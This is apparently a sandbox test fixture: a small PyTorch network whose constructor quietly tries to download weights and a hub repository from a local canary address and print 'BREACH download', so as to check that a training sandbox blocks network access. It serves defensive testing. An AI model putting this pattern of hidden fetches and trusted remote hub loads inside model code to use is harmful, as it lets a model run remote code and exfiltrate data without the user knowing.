# group: network
# tries: fetches weights as torch.hub and torchvision do
# static: unsafe
# sandbox: trained

import torch
import torch.nn as nn


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        for act in (
            lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:45671/breach.pth", progress=False),
            lambda: torch.hub.load("archloop/breach", "net", trust_repo=True),
            lambda: torch.hub.download_url_to_file(
                "http://127.0.0.1:45671/breach", "/tmp/archloop-canary/open/archloop-breach-hub"
            ),
        ):
            try:
                act()
                print("BREACH download")
            except Exception:
                pass
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
